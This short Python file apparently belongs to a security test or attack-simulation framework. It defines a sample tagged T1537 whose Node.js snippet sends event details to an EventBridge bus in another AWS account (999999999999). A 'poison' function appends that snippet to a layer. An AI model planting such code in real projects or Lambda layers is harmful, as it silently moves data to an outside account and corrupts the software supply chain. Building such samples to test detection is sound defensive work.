# SPDX-License-Identifier: Apache-2.0
"""Events go to a bus of another account."""

ATTACK = "T1537"
LANGUAGE = "node"
CODE = """\
;module.exports.tell = (client, detail) =>
  client.send({ Entries: [{ EventBusName: 'arn:aws:events:us-east-1:999999999999:event-bus/in', Detail: detail }] });
"""


def poison(layer):
    layer.append(CODE)
